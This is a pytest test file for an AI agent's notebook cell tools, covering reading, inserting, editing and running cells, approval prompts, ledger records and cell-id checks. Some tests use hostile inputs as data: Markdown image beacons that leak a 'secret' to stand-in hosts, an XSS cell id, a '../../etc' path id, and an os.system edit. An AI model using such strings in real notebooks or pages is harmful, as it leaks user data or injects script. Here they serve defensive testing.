"""The cell tools' own logic, in-process, over the real :class:`CellChannel`.

The notebook here is a small in-memory stand-in for the extension (``FakeNotebook``): it
gets the kernel's requests as the probe comm would carry them and answers from another
thread, as ipykernel hands comm messages to a subshell thread, so the channel's handover
to the run's loop is what is tested. The extension's real side is covered by
tests/browser/test_cells_lab.py; the no-frontend fallback in a real kernel by
tests/notebook/test_cells_kernel.py.
"""

from __future__ import annotations

import threading
import uuid
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from tool_helpers import call_tool
from tool_helpers import person as answer_approvals

from agent_kernel import Agent
from agent_kernel.core.mime_types import RUN_MIME
from agent_kernel.engine.approvals import APPROVE, DENY
from agent_kernel.engine.registry import ToolError
from agent_kernel.notebook.cells_channel import HEADLESS, NO_EXTENSION, CellChannel
from agent_kernel.tools.cells import NO_IDS

RUN_ID = "run_t"


class FakeNotebook:
    """The probe comm and the extension's side of it, for a list of cells in memory. Each
    cell has an id (given, or made as JupyterLab makes one); requests name a cell by
    ``cell_id`` or by ``index``, as cells.ts reads them."""

    def __init__(self, cells: list[dict[str, Any]], *, extension: bool = True,
                 answered: bool = True, silent: bool = False) -> None:
        self.cells = cells
        for cell in cells:
            cell.setdefault("id", str(uuid.uuid4()))
        self.sent_at = 1.0 if answered else None
        self.answered = threading.Event()
        if answered:
            self.answered.set()
        self.extension = extension
        self.connected = extension
        self.silent = silent
        self.requests: list[dict[str, Any]] = []
        self.reply_threads: set[str] = set()
        self._handler: Any = None

    def on_reply(self, handler: Any) -> None:
        self._handler = handler

    def send_to_frontend(self, data: dict[str, Any]) -> bool:
        self.requests.append(data)
        if not self.silent:
            threading.Thread(target=self._answer, args=(data,)).start()
        return True

    def _answer(self, data: dict[str, Any]) -> None:
        self.reply_threads.add(threading.current_thread().name)
        reply = getattr(self, "do_" + data["cells"])(data)
        self._handler({"action": "cells_reply", "reply_to": data["request_id"], **reply})

    def position(self, data: dict[str, Any], key: str = "cell_id") -> int | None:
        """The position a request names: its cell's by id (None: no such id), else index."""
        if data.get(key) is None:
            return int(data["index"])
        return next((i for i, c in enumerate(self.cells) if c["id"] == data[key]), None)

    def do_read(self, data: dict[str, Any]) -> dict[str, Any]:
        start, count = data.get("start", 0), data["count"]
        if data.get("cell_id") is not None:
            found = self.position(data)
            start, count = (found, 1) if found is not None else (len(self.cells), 0)
        chosen = [{"index": i, **cell} for i, cell in enumerate(self.cells)][start:start + count]
        agent = next((i for i, c in enumerate(self.cells) if c.get("runs_agent")), None)
        return {"ok": True, "total": len(self.cells), "agent_cell": agent, "cells": chosen}

    def do_insert(self, data: dict[str, Any]) -> dict[str, Any]:
        index = data["index"] if data["index"] is not None else 1
        if data.get("below_cell_id") is not None:
            below = self.position(data, "below_cell_id")
            if below is None:
                return {"ok": False, "message": "No cell in the notebook has that id now."}
            index = below + 1
        made = str(uuid.uuid4())
        self.cells.insert(index, {"id": made, "kind": data["kind"], "source": data["source"],
                                  "outputs": [], "agent_kernel": data["provenance"]})
        return {"ok": True, "index": index, "id": made}

    def do_edit(self, data: dict[str, Any]) -> dict[str, Any]:
        index = self.position(data)
        assert index is not None
        cell = self.cells[index]
        if cell["source"] != data["expected"]:
            return {"ok": False, "message": "Cell changed after it was read."}
        cell.update(source=data["source"], agent_kernel=data["provenance"])
        return {"ok": True, "index": index}

    def do_run(self, data: dict[str, Any]) -> dict[str, Any]:
        index = self.position(data)
        assert index is not None
        cell = self.cells[index]
        assert cell["source"] == data["expected"]
        cell.setdefault("ran", 0)
        cell["ran"] += 1
        return {"ok": True, "index": index, "status": "ok", "execution_count": 7,
                "outputs": [{"output_type": "stream", "text": "ran\n"}]}


def shell(history: list[str] | None = None) -> SimpleNamespace:
    return SimpleNamespace(kernel=object(), user_ns={},
                           history_manager=SimpleNamespace(input_hist_raw=["", *(history or [])]))


def agent_with(tmp_path: Path, notebook: FakeNotebook, history: list[str] | None = None
               ) -> Agent:
    agent = Agent(workspace=tmp_path / "ws")
    agent.services.cells = CellChannel(notebook, shell(history))  # type: ignore[arg-type]
    return agent



def notebook_cells() -> list[dict[str, Any]]:
    return [
        {"kind": "code", "source": "%agent plot it", "execution_count": 1, "runs_agent": True,
         "outputs": [{"output_type": "display_data", "mimes": [RUN_MIME, "text/html",
                                                                "text/plain"]}]},
        {"kind": "code", "source": "1/0", "execution_count": 2, "outputs": [
            {"output_type": "error", "ename": "ZeroDivisionError", "evalue": "division by zero",
             "traceback": ["\x1b[31mTraceback\x1b[0m", "  line 1", "ZeroDivisionError"]}]},
        {"kind": "code", "source": "plt.plot([1, 2])", "execution_count": 3, "outputs": [
            {"output_type": "execute_result", "mimes": ["text/plain"], "text": "[<Line2D>]"},
            {"output_type": "display_data", "mimes": ["image/png", "text/plain"],
             "text": "<Figure>"}]},
        {"kind": "markdown", "source": "# Notes", "outputs": []},
    ]


async def test_read_cells_gives_text_placeholders_errors_and_the_agents_cell(
        tmp_path: Path) -> None:
    notebook = FakeNotebook(notebook_cells())
    agent = agent_with(tmp_path, notebook)
    read = await call_tool(agent, "read_cells")
    assert read["ok"] and read["total"] == 4 and read["shown"] == 4 and read["agent_cell"] == 0
    agent_cell, error_cell, plot_cell, notes = read["cells"]
    assert agent_cell["runs_this_agent"] and agent_cell["outputs"] == "[an agent run's transcript]"
    assert error_cell["error"]["type"] == "ZeroDivisionError"
    assert "\x1b" not in error_cell["error"]["traceback"]
    assert plot_cell["outputs"] == "[<Line2D>]\n[image: PNG]"
    assert notes == {"index": 3, "id": notebook.cells[3]["id"], "kind": "markdown",
                     "source": "# Notes"}
    assert notebook.reply_threads and threading.current_thread().name not in \
        notebook.reply_threads


async def test_read_cells_is_bounded_for_the_model(tmp_path: Path) -> None:
    cells = [{"kind": "code", "source": "x" * 10_000, "outputs": [
        {"output_type": "stream", "text": "y" * 10_000}]} for _ in range(20)]
    agent = agent_with(tmp_path, FakeNotebook(cells))
    read = await call_tool(agent, "read_cells", start=2, count=20)
    assert 1 <= read["shown"] < 18 and read["start"] == 2
    assert read["note"].startswith(f"Cells {2 + read['shown']} to 19 are not shown")
    first = read["cells"][0]
    assert len(first["source"]) < 3100 and "more characters not shown" in first["source"]
    assert len(first["outputs"]) < 2100


async def test_insert_cell_needs_no_approval_and_carries_its_ledger_record(
        tmp_path: Path) -> None:
    notebook = FakeNotebook(notebook_cells())
    agent = agent_with(tmp_path, notebook)
    asked = answer_approvals(agent, DENY)
    done = await call_tool(agent, "insert_cell", source="df.plot()")
    assert done["ok"] and done["index"] == 1 and not asked
    request = notebook.requests[-1]
    assert request["cells"] == "insert" and request["index"] is None  # below the agent's cell
    provenance = notebook.cells[1]["agent_kernel"]
    assert provenance["run_id"] == RUN_ID and provenance["action"] == "inserted"
    record = next(r for r in agent.ledger.records() if r["kind"] == "cell_change")
    assert provenance["ledger_record"] == record["record_id"] == done["ledger_record"]
    assert record["action"] == "inserted" and len(record["source_digest"]) == 64


async def test_edit_cell_is_approved_from_a_diff_of_exactly_what_is_written(
        tmp_path: Path) -> None:
    notebook = FakeNotebook(notebook_cells())
    agent = agent_with(tmp_path, notebook)
    asked = answer_approvals(agent, APPROVE)
    done = await call_tool(agent, "edit_cell", index=1, source="1/1")
    assert done["ok"] and done["changed"] and notebook.cells[1]["source"] == "1/1"
    (question,) = asked
    assert question.kind == "approval" and question.details is not None
    assert question.details["arguments"] == {"index": 1, "source": "1/1"}
    assert question.details["diff"] == ("--- cell 1 (now)\n+++ cell 1 (edited)\n"
                                        "@@ -1 +1 @@\n-1/0\n+1/1\n")
    assert notebook.cells[1]["agent_kernel"]["action"] == "edited"
    approval = next(r for r in agent.ledger.records() if r["kind"] == "approval")
    assert approval["tool_name"] == "edit_cell" and approval["decision"] == "approved"


async def test_a_denied_edit_changes_nothing(tmp_path: Path) -> None:
    notebook = FakeNotebook(notebook_cells())
    agent = agent_with(tmp_path, notebook)
    answer_approvals(agent, DENY)
    with pytest.raises(ToolError, match="denied"):
        await call_tool(agent, "edit_cell", index=1, source="import os")
    assert notebook.cells[1]["source"] == "1/0"
    assert [r["cells"] for r in notebook.requests] == ["read"]
    assert not any(r["kind"] == "cell_change" for r in agent.ledger.records())


async def test_edit_of_a_cell_that_is_not_there_names_the_range(tmp_path: Path) -> None:
    agent = agent_with(tmp_path, FakeNotebook(notebook_cells()))
    with pytest.raises(ToolError, match=r"no cell at position 9: the notebook has 4 cells"):
        await call_tool(agent, "edit_cell", index=9, source="x")


async def test_run_cell_is_approved_showing_the_source_and_returns_outputs(
        tmp_path: Path) -> None:
    notebook = FakeNotebook(notebook_cells())
    agent = agent_with(tmp_path, notebook)
    asked = answer_approvals(agent, APPROVE)
    done = await call_tool(agent, "run_cell", index=2, timeout_seconds=5)
    assert done == {"ok": True, "index": 2, "status": "done", "outputs": ["ran\n"],
                    "error": None, "execution_count": 7}
    (question,) = asked
    assert question.details["arguments"] == {"index": 2, "source": "plt.plot([1, 2])",
                                             "timeout_seconds": 5.0}
    assert notebook.requests[-1]["expected"] == "plt.plot([1, 2])"


async def test_run_cell_refuses_markdown_and_times_out_in_words(tmp_path: Path) -> None:
    agent = agent_with(tmp_path, FakeNotebook(notebook_cells()))
    with pytest.raises(ToolError, match="markdown cell; only code cells run"):
        await call_tool(agent, "run_cell", index=3)
    with pytest.raises(ToolError, match="the cell running this agent"):
        await call_tool(agent, "run_cell", index=0)
    silent = FakeNotebook(notebook_cells(), silent=True)
    agent = agent_with(tmp_path / "b", silent)
    answer_approvals(agent, APPROVE)
    channel = agent.services.cells
    assert channel is not None
    reply = await channel.request("read", {"start": 0, "count": 1}, timeout=0.2)
    assert reply["ok"] is False and "did not answer within 0.2 s" in reply["message"]


@pytest.mark.parametrize(("notebook", "why"), [
    (FakeNotebook([], answered=False), HEADLESS),
    (FakeNotebook([], extension=False), NO_EXTENSION)])
async def test_without_the_extension_read_falls_back_to_history_and_writes_say_why(
        tmp_path: Path, notebook: FakeNotebook, why: str) -> None:
    agent = agent_with(tmp_path, notebook, history=["import pandas as pd", "%agent look"])
    read = await call_tool(agent, "read_cells")
    assert read["read_from"] == "input history" and read["total"] == 2
    assert read["cells"] == [{"execution_count": 1, "source": "import pandas as pd"},
                             {"execution_count": 2, "source": "%agent look"}]
    assert why.rstrip(".") in read["note"] and "cannot be used" in read["note"]
    assert "Cell ids and positions are unknown" in read["note"]
    for name, arguments in (("insert_cell", {"source": "x"}),
                            ("edit_cell", {"index": 0, "source": "x"}),
                            ("run_cell", {"index": 0})):
        with pytest.raises(ToolError) as raised:
            await call_tool(agent, name, **arguments)
        assert str(raised.value) == why and raised.value.summary
    # a cell id, there, says too that the history has none (and asks the page nothing)
    for name, arguments in (("edit_cell", {"cell_id": "abc", "source": "x"}),
                            ("run_cell", {"cell_id": "abc"}),
                            ("insert_cell", {"source": "x", "below_cell_id": "abc"})):
        with pytest.raises(ToolError) as raised:
            await call_tool(agent, name, **arguments)
        assert str(raised.value) == f"{why} {NO_IDS}"
    assert notebook.requests == []


async def test_outside_a_kernel_the_tools_say_there_is_no_notebook(tmp_path: Path) -> None:
    agent = Agent(workspace=tmp_path / "ws")
    assert agent.services.cells is None
    with pytest.raises(ToolError, match="not running in a notebook kernel"):
        await call_tool(agent, "read_cells")


def test_the_cards_say_what_each_cell_tool_did() -> None:
    from agent_kernel.views.summaries import summarise

    def line(tool: str, arguments: dict[str, Any], result: dict[str, Any]) -> str:
        return summarise(tool, arguments, result, success=True, duration_ms=5)

    assert line("insert_cell", {"source": "x"}, {"ok": True, "index": 2}) == \
        "inserted cell 2 · 5 ms"
    assert line("edit_cell", {"index": 1}, {"ok": True, "index": 1, "changed": True}) == \
        "edited cell 1 · 5 ms"
    assert line("run_cell", {"index": 3}, {"ok": True, "status": "error"}).startswith(
        "ran cell 3 · it raised an error")
    assert line("read_cells", {}, {"ok": True, "cells": [{}, {}]}) == "read 2 cells · 5 ms"
    assert line("read_cells", {}, {"ok": True, "cells": [{}], "read_from": "input history"}
                ).startswith("read 1 cell of the input history")


async def test_the_real_probe_addresses_the_last_page_and_hands_replies_to_the_run(
        ) -> None:
    import asyncio

    from agent_kernel.notebook.frontend import FrontendProbe

    sent: list[dict[str, Any]] = []
    probe = FrontendProbe()
    probe._comm = SimpleNamespace(send=sent.append)
    probe.sent_at = 1.0
    channel = CellChannel(probe, shell())
    for page in ("p_first_tab", "p_second_tab"):
        probe._on_msg({"content": {"data": {"action": "hello", "protocol": 1, "page": page}}})
    assert channel.unavailable() is None
    asking = asyncio.ensure_future(channel.request("read", {"start": 0, "count": 1},
                                                   timeout=5))
    while not sent:
        await asyncio.sleep(0.01)
    (request,) = sent
    assert request["cells"] == "read" and request["page"] == "p_second_tab"
    reply = {"action": "cells_reply", "reply_to": request["request_id"], "ok": True,
             "total": 0, "cells": []}
    answering = threading.Thread(target=probe._on_msg, args=({"content": {"data": reply}},))
    answering.start()
    assert await asyncio.wait_for(asking, 5) == {"ok": True, "total": 0, "cells": []}
    answering.join()
    assert len(sent) == 1, "a reply to the kernel's own request is not answered"


async def call_as(agent: Agent, name: str, trigger: dict[str, Any] | None = None,
                  **arguments: Any) -> Any:
    """``call_tool`` in a run a trigger started (``trigger``) or the person's own."""
    from agent_kernel.engine.registry import ToolContext

    tool = agent.registry.get(name)
    assert tool is not None
    ctx = ToolContext(agent=agent, run_id=RUN_ID, agent_id=agent.agent_id,
                      workspace=agent.workspace, trigger=trigger)
    return await tool.invoke(tool.validate(arguments), ctx)


async def test_cells_are_approved_as_code_for_the_kernel(tmp_path: Path) -> None:
    """insert_cell then run_cell is run_python by another door: a standing permission
    counts only in the person's own run, the headless policy never, and the approval
    carries the source's digest."""
    import hashlib

    notebook = FakeNotebook(notebook_cells())
    agent = agent_with(tmp_path, notebook)
    asked = answer_approvals(agent, DENY)
    agent.approvals.grant("run_cell")
    agent.approvals.grant("edit_cell")
    done = await call_as(agent, "run_cell", index=2)  # the person's run: the grant counts
    assert done["status"] == "done" and not asked
    with pytest.raises(ToolError, match="denied"):  # a trigger's run: asked anyway
        await call_as(agent, "run_cell", trigger={"trigger_id": "nightly"}, index=2)
    with pytest.raises(ToolError, match="denied"):
        await call_as(agent, "edit_cell", trigger={"trigger_id": "nightly"}, index=2,
                      source="import os")
    assert [q.options for q in asked] == [[APPROVE, DENY]] * 2  # no "Always allow" there
    assert [r["cells"] for r in notebook.requests].count("run") == 1
    approvals = [r for r in agent.ledger.records() if r["kind"] == "approval"]
    digest = hashlib.sha256(b"plt.plot([1, 2])").hexdigest()
    assert approvals[0]["digest"] == digest and approvals[0]["source"] == "always"

    headless = agent_with(tmp_path / "h", FakeNotebook(notebook_cells()))
    headless.settings.headless_approval = "allow"
    with pytest.raises(ToolError, match="never by a policy|never approved by a policy"):
        await call_as(headless, "run_cell", index=2)


async def test_insert_cell_asks_where_a_cell_could_harm(tmp_path: Path) -> None:
    """Below the agent's cell it asks nothing; at a chosen place (Run All would run it
    before anyone reads it), or Markdown that fetches an image from the web, it asks."""
    notebook = FakeNotebook(notebook_cells())
    agent = agent_with(tmp_path, notebook)
    asked = answer_approvals(agent, DENY)
    assert (await call_as(agent, "insert_cell", source="# Notes", kind="markdown"))["ok"]
    assert not asked
    with pytest.raises(ToolError, match="denied"):
        await call_as(agent, "insert_cell", source="import os", index=0)
    for beacon in ("![chart](https://example.invalid/?d=secret)", "<img src=//x.invalid/a>",
                   "![chart][1]\n\n[1]: http://x.invalid/a"):
        with pytest.raises(ToolError, match="denied"):
            await call_as(agent, "insert_cell", source=beacon, kind="markdown")
    assert len(asked) == 4 and [r["cells"] for r in notebook.requests] == ["insert"]


async def test_edit_cell_leaves_the_agents_own_cell_alone(tmp_path: Path) -> None:
    notebook = FakeNotebook(notebook_cells())
    agent = agent_with(tmp_path, notebook)
    asked = answer_approvals(agent, APPROVE)
    with pytest.raises(ToolError, match="the cell running this agent"):
        await call_as(agent, "edit_cell", index=0, source="%agent run os.system('x')")
    assert not asked and notebook.cells[0]["source"] == "%agent plot it"


async def test_a_cell_named_by_its_id_is_the_same_cell_after_an_insert_moved_it(
        tmp_path: Path) -> None:
    """read_cells gives each cell's id, insert_cell the new one's; after an insert above
    it, the cell that was at 1 is at 2, and its id still names it: the edit and the run
    reach it, and what the person approves names its position now, never the id."""
    notebook = FakeNotebook(notebook_cells())
    agent = agent_with(tmp_path, notebook)
    asked = answer_approvals(agent, APPROVE)
    read = await call_tool(agent, "read_cells")
    ids = [c["id"] for c in read["cells"]]
    assert ids == [c["id"] for c in notebook.cells] and len(set(ids)) == 4
    error_id = read["cells"][1]["id"]
    made = await call_tool(agent, "insert_cell", source="x = 1")  # below the agent's cell
    assert made["index"] == 1 and made["id"] == notebook.cells[1]["id"] not in ids
    assert notebook.cells[2]["id"] == error_id  # the error cell moved down one
    done = await call_tool(agent, "edit_cell", cell_id=error_id, source="1/1")
    assert done == {"ok": True, "index": 2, "changed": True,
                    "ledger_record": done["ledger_record"]}
    assert [c["source"] for c in notebook.cells[:3]] == ["%agent plot it", "x = 1", "1/1"]
    edit = notebook.requests[-1]
    assert edit["cells"] == "edit" and edit["cell_id"] == error_id and edit["expected"] == "1/0"
    ran = await call_tool(agent, "run_cell", cell_id=error_id)
    assert ran["index"] == 2 and notebook.cells[2]["ran"] == 1
    assert [q.details["arguments"] for q in asked] == [
        {"index": 2, "source": "1/1"},
        {"index": 2, "source": "1/1", "timeout_seconds": 60.0}]
    assert asked[0].details["diff"].startswith("--- cell 2 (now)\n+++ cell 2 (edited)\n")
    assert all(error_id not in str(q.details) and error_id not in q.question for q in asked)
    # a cell named by position is still edited as the cell that was read: by its id
    await call_tool(agent, "edit_cell", index=1, source="x = 2")
    assert notebook.requests[-1]["cell_id"] == notebook.cells[1]["id"]


async def test_a_cell_is_named_one_way_and_an_unknown_id_is_never_a_position(
        tmp_path: Path) -> None:
    notebook = FakeNotebook(notebook_cells())
    agent = agent_with(tmp_path, notebook)
    asked = answer_approvals(agent, APPROVE)
    known = notebook.cells[2]["id"]
    cases = [
        ("edit_cell", {"source": "x"}, "edit_cell needs to know which cell: give cell_id"),
        ("run_cell", {}, "run_cell needs to know which cell: give cell_id"),
        ("run_cell", {"cell_id": known, "index": 2}, "takes cell_id or index, not both"),
        ("insert_cell", {"source": "x", "below_cell_id": known, "index": 1},
         "takes below_cell_id or index, not both"),
        ("edit_cell", {"cell_id": "2", "source": "x"}, "No cell in the notebook has the id '2'"),
        ("run_cell", {"cell_id": "a" * 65}, "is not a cell id: an id is 1 to 64 letters"),
        ("run_cell", {"cell_id": "x y"}, "'x y' is not a cell id"),
        ("insert_cell", {"source": "x", "below_cell_id": "gone-1"},
         "No cell in the notebook has the id 'gone-1'.*call read_cells"),
    ]
    for name, arguments, words in cases:
        with pytest.raises(ToolError, match=words) as raised:
            await call_tool(agent, name, **arguments)
        summary = raised.value.summary or ""
        assert "gone-1" not in summary and known not in summary
    # nothing was written, run or approved: the unknown id "2" did not become position 2
    assert {r["cells"] for r in notebook.requests} == {"read"} and not asked
    assert notebook.cells[2]["source"] == "plt.plot([1, 2])"


async def test_insert_below_a_cell_id(tmp_path: Path) -> None:
    """Below the agent's own cell (by its id) is where a cell goes anyway: not asked;
    below another cell the person approves the place, as with an index."""
    notebook = FakeNotebook(notebook_cells())
    agent = agent_with(tmp_path, notebook)
    asked = answer_approvals(agent, APPROVE)
    agent_id, plot_id = notebook.cells[0]["id"], notebook.cells[2]["id"]
    first = await call_tool(agent, "insert_cell", source="a = 1", below_cell_id=agent_id)
    assert first["index"] == 1 and not asked
    second = await call_tool(agent, "insert_cell", source="b = 2", below_cell_id=plot_id)
    assert second["index"] == 4 and notebook.cells[3]["id"] == plot_id
    assert notebook.cells[4]["source"] == "b = 2"
    (question,) = asked
    assert question.details["arguments"] == {"source": "b = 2", "kind": "code", "index": 4}


async def test_an_id_from_the_page_is_checked_before_it_is_used(tmp_path: Path) -> None:
    """A notebook file can carry any id: one not of nbformat's shape is not given to the
    model (the cell is still there by position), nor returned from an insert."""
    hostile = "<img src=x onerror=alert(1)>"
    cells = notebook_cells()
    cells[1]["id"] = hostile
    cells[2]["id"] = "z" * 65
    notebook = FakeNotebook(cells)
    agent = agent_with(tmp_path, notebook)
    read = await call_tool(agent, "read_cells")
    assert ["id" in c for c in read["cells"]] == [True, False, False, True]
    assert hostile not in str(read)
    notebook.do_insert = lambda data: {"ok": True, "index": 1, "id": "../../etc"}  # type: ignore[method-assign]
    made = await call_tool(agent, "insert_cell", source="x")
    assert made["ok"] and "id" not in made
    answer_approvals(agent, APPROVE)
    await call_tool(agent, "edit_cell", index=1, source="1/1")  # by position: no id sent
    assert notebook.requests[-1]["cell_id"] is None and notebook.cells[1]["source"] == "1/1"


def test_the_person_reads_a_cell_by_its_position_and_its_id_stays_folded() -> None:
    """The model's call names the cell by id; the one-liners say "cell 2", the text view's
    line leaves the id out, and the run's HTML folds it (escaped) under "cell id"."""
    import io
    import re

    from agent_kernel.core.events import EventBus, ToolCallFinished, ToolCallStarted
    from agent_kernel.views.mime import Transcript
    from agent_kernel.views.run_html import html_of
    from agent_kernel.views.summaries import summarise
    from agent_kernel.views.text import TextView

    cell_id = "9f1c<b>x</b>"
    args = {"cell_id": cell_id, "source": "1/1"}
    result = {"ok": True, "index": 2, "changed": True, "ledger_record": "r1"}
    assert summarise("edit_cell", args, result, success=True, duration_ms=5) == \
        "edited cell 2 · 5 ms"
    assert summarise("run_cell", {"cell_id": cell_id}, {"ok": True, "index": 2,
                                                         "status": "done"},
                     success=True, duration_ms=5) == "ran cell 2 · 5 ms"
    bus, stream = EventBus(), io.StringIO()
    TextView(bus, stream=stream)
    started = ToolCallStarted(RUN_ID, call_id="c1", tool_name="edit_cell", arguments=args)
    bus.emit(started)
    line = stream.getvalue()
    assert "[tool] edit_cell" in line and "1/1" in line and "9f1c" not in line
    transcript = Transcript(run_id=RUN_ID)
    transcript.feed(started)
    transcript.feed(ToolCallFinished(RUN_ID, call_id="c1", tool_name="edit_cell",
                                     arguments=args, result=result, success=True, error=None,
                                     duration_ms=5))
    page = html_of(transcript.state())
    assert "edited cell 2" in page and "<b>x</b>" not in page
    folded = re.search(r"<details class='ak-muted'><summary>cell id</summary>(.*?)</details>",
                       page)
    assert folded is not None and "9f1c&lt;b&gt;x&lt;/b&gt;" in folded.group(1)
    assert page.count("9f1c") == 1


def test_the_widget_approval_names_the_cell_by_position_where_the_call_named_its_id(
        tmp_path: Path) -> None:
    """The ipywidgets control shows the exact arguments under the names the call's card
    uses: a cell the model named by id is there by its position, never by the id."""
    from agent_kernel.core.events import Question, ToolCallStarted
    from agent_kernel.notebook.widgets import WidgetView

    agent = Agent(workspace=tmp_path / "ws")
    view = WidgetView(agent, RUN_ID)
    call = {"cell_id": "c0ffee-1", "source": "1/1"}
    exact = {"index": 2, "source": "1/1"}
    view.on_event(ToolCallStarted(RUN_ID, call_id="c1", tool_name="edit_cell", arguments=call))
    view.on_event(Question(RUN_ID, "q1", "Allow `edit_cell`?", [APPROVE, DENY], 60.0, DENY,
                           kind="approval", details={"tool": "edit_cell", "arguments": exact}))
    assert view._as_in_card("q1", exact) == {"index": 2, "source": "1/1"}
    view.finish()
